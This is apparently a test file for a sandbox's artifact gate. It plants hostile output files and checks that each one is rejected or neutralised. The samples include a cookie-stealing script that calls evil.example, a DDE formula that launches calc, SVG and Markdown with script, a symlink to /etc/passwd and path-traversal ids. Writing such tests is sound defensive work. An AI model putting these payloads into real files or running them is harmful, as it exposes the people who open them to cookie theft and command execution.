// Threat: the program hands back files that harm whoever opens them: a CSV
// that runs formulas in a spreadsheet, an executable posing as a chart,
// HTML/SVG/Markdown carrying script, links and FIFOs aimed at the host side,
// a huge sparse file. The gate must refuse or neutralise each one, with a
// reason, and nothing refused may be reachable as a tool result or resource.
import test, { before, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { connect, runCode, fetchArtifact, artifactText, textOf, REQUEST_TIMEOUT_MS } from '../integration/lib/client.mjs';
import { lastJson, loadPolicy } from './lib/sandbox.mjs';

let conn;
before(async () => { conn = await connect(); });
after(async () => { await conn?.close(); });

const policy = loadPolicy();
const FILE_MAX = policy.artifacts.file_max_bytes;  // 16 MiB by default
const MiB = 1024 * 1024;

const PROGRAM = String.raw`
import errno, json, os, shutil
os.chdir('/outputs')
rows = ["id,value",
        "1,=cmd|' /C calc'!A0",
        "2,+1+1",
        "3,-2+3",
        "4,@SUM(A1)",
        "5,-80.00"]
open('formulas.csv', 'w').write('\n'.join(rows) + '\n')
shutil.copyfile('/usr/bin/true', 'fake.png')
open('report.html', 'w').write('<!DOCTYPE html><html><body><p>hi</p>'
                               '<script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>\n')
open('icon.svg', 'w').write('<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="alert(1)">'
                            '<rect width="8" height="8"/></svg>\n')
open('notes.md', 'w').write('# Notes\n\nAll fine.\n\n<script>alert(document.domain)</script>\n')
os.symlink('/etc/passwd', 'leak')
os.mkfifo('pipe')
open('big.bin', 'wb').close()
# A 300 MB sparse file; RLIMIT_FSIZE (the largest scratch area) may refuse
# that size with EFBIG, then the largest sparse file it allows is used: still
# far above the per-file cap, still unread by the harvest.
big_error = None
try:
    os.truncate('big.bin', 300 * 1024 * 1024)
except OSError as e:
    big_error = errno.errorcode.get(e.errno, str(e.errno))
    os.truncate('big.bin', FALLBACK)
open('ok.txt', 'w').write('plain text, nothing to see\n')
json.dump({"rows": 5, "ok": True, "items": [1, 2, 3]}, open('data.json', 'w'))
print(json.dumps({"planted": True, "big_size": os.stat('big.bin').st_size, "big_error": big_error}))
`;

test('the gate neutralises or refuses hostile artifacts, and refused ones are unreachable', { timeout: 60_000 }, async (t) => {
  // The fallback sparse size: over the per-file cap, under the scratch areas' size (RLIMIT_FSIZE).
  const fallback = Math.min(3 * FILE_MAX, Math.max(policy.limits.work_max_bytes, policy.limits.tmp_max_bytes,
    policy.limits.outputs_max_bytes));
  assert.ok(fallback > FILE_MAX, 'the policy leaves room for a file over the per-file cap');

  const started = Date.now();
  const result = await runCode(conn.client, {
    runtime: 'python', timeout_s: 20, code: PROGRAM.replace('FALLBACK', String(fallback)),
  });
  const elapsed = Date.now() - started;
  assert.ok(!result.isError, `run_code isError: ${textOf(result)}`);
  const sc = result.structuredContent;
  assert.equal(sc.status, 'completed', `status ${sc.status}; error ${sc.error}; stderr ${sc.stderr}`);
  assert.ok(elapsed < 20_000, `the job and its harvest took ${elapsed} ms`);
  const planted = lastJson(sc);
  assert.equal(planted.planted, true);
  t.diagnostic(`big.bin: ${planted.big_size} bytes (300 MB truncate: ${planted.big_error ?? 'ok'}); ${elapsed} ms`);
  t.diagnostic(sc.artifacts.map((a) => `${a.name}: ${a.verdict} (${a.reason})`).join('\n'));

  const byName = Object.fromEntries(sc.artifacts.map((a) => [a.name, a]));
  const names = ['formulas.csv', 'fake.png', 'report.html', 'icon.svg', 'notes.md', 'leak', 'pipe', 'big.bin',
    'ok.txt', 'data.json'];
  assert.deepEqual(Object.keys(byName).sort(), [...names].sort(), 'one entry per planted file');
  assert.equal(sc.artifacts.length, names.length, 'no entry reported twice');

  // --- Verdicts and reasons, one per file.
  const csv = byName['formulas.csv'];
  assert.equal(csv.verdict, 'sanitized', csv.reason);
  assert.equal(csv.media_type, 'text/csv');
  assert.match(csv.reason, /^4 cells\b/);
  assert.match(csv.reason, /apostrophe/);

  const expectRejected = {
    // libmagic on a buffer cannot read the dynamic section's PIE flag, so a PIE
    // executable sniffs as application/x-sharedlib ("ELF ... shared object").
    'fake.png': /^declared image\/png by extension but content is application\/x-(pie-executable|executable|sharedlib) \(ELF /,
    'report.html': /^active content: .*script/,
    'icon.svg': /^active content: .*onload/,
    'notes.md': /^active content: .*script/,
    leak: /symbolic link/,
    pipe: /not a regular file/,
    'big.bin': new RegExp(`larger than the policy's ${FILE_MAX} bytes per file \\(not read\\)`),
  };
  for (const [name, reason] of Object.entries(expectRejected)) {
    const a = byName[name];
    assert.equal(a.verdict, 'rejected', `${name}: ${JSON.stringify(a)}`);
    assert.match(a.reason, reason, `${name}`);
    assert.equal(a.artifact_id, null, `${name} has an artifact_id`);
  }
  assert.equal(byName['big.bin'].size, planted.big_size, 'the size was taken from stat, the file not read');
  assert.ok(planted.big_size > FILE_MAX);

  for (const [name, type] of [['ok.txt', 'text/plain'], ['data.json', 'application/json']]) {
    const a = byName[name];
    assert.equal(a.verdict, 'accepted', `${name}: ${a.reason}`);
    assert.equal(a.media_type, type);
    assert.match(a.artifact_id ?? '', /^[0-9a-f]{32}$/, `${name} artifact_id`);
  }

  // --- What is stored: the sanitized CSV and the accepted files, byte-exact.
  const csvText = artifactText(await fetchArtifact(conn.client, csv.artifact_id));
  assert.equal(csvText, "id,value\n1,'=cmd|' /C calc'!A0\n2,'+1+1\n3,'-2+3\n4,'@SUM(A1)\n5,-80.00\n");
  assert.equal(Buffer.byteLength(csvText), csv.size, 'the reported size is the sanitized size');
  assert.equal(crypto.createHash('sha256').update(csvText).digest('hex'), csv.sha256);
  const cells = csvText.trim().split('\n').slice(1).map((line) => line.slice(line.indexOf(',') + 1));
  for (const cell of cells.slice(0, 4)) assert.ok(cell.startsWith("'"), `cell ${cell} is not neutralised`);
  assert.equal(cells[4], '-80.00', 'a negative number is left as it is');
  assert.equal(artifactText(await fetchArtifact(conn.client, byName['ok.txt'].artifact_id)), 'plain text, nothing to see\n');
  assert.deepEqual(JSON.parse(artifactText(await fetchArtifact(conn.client, byName['data.json'].artifact_id))),
    { rows: 5, ok: true, items: [1, 2, 3] });

  // --- Links in the run_code result and resources/list: exactly what left the gate.
  const stored = sc.artifacts.filter((a) => a.verdict !== 'rejected');
  assert.deepEqual(stored.map((a) => a.name).sort(), ['data.json', 'formulas.csv', 'ok.txt']);
  const storedUris = stored.map((a) => `throwbox://artifacts/${a.artifact_id}`).sort();
  const links = result.content.filter((c) => c.type === 'resource_link').map((c) => c.uri).sort();
  assert.deepEqual(links, storedUris, 'one resource_link per stored artifact, none for rejected ones');

  const list = await conn.client.listResources(undefined, { timeout: REQUEST_TIMEOUT_MS });
  assert.deepEqual(list.resources.map((r) => r.uri).sort(), storedUris, JSON.stringify(list.resources));
  for (const r of list.resources) {
    const a = stored.find((x) => `throwbox://artifacts/${x.artifact_id}` === r.uri);
    assert.equal(r.name, a.name);
    assert.equal(r.mimeType, a.media_type);
    assert.ok(r.description.includes(sc.job_id), `${r.uri}: ${r.description}`);
  }

  // --- Refused names and unknown ids are not readable as resources.
  const randomId = crypto.randomBytes(16).toString('hex');
  const guessed = ['fake.png', 'report.html', 'leak', 'pipe', 'big.bin', '../../etc/passwd', randomId, ''];
  for (const g of guessed) {
    const uri = `throwbox://artifacts/${g}`;
    await assert.rejects(conn.client.readResource({ uri }, { timeout: REQUEST_TIMEOUT_MS }),
      (e) => { assert.equal(e.code, -32002, `${uri}: ${e.message}`); return true; }, uri);
  }

  // --- fetch_artifact with a traversal, an empty id and a random id: one answer, no host data.
  const texts = [];
  for (const id of ['../../etc/passwd', '', randomId]) {
    const r = await fetchArtifact(conn.client, id);
    assert.equal(r.isError, true, `fetch_artifact(${JSON.stringify(id)}): ${textOf(r)}`);
    const text = textOf(r);
    assert.ok(!text.includes('root:'), `fetch_artifact(${JSON.stringify(id)}) leaked: ${text}`);
    assert.match(text, /unknown artifact_id/);
    texts.push(text);
  }
  assert.equal(texts[1], texts[2], 'an empty id and a random id get the same answer');
  assert.equal(texts[0], texts[2], 'a traversal and a random id get the same answer');
});
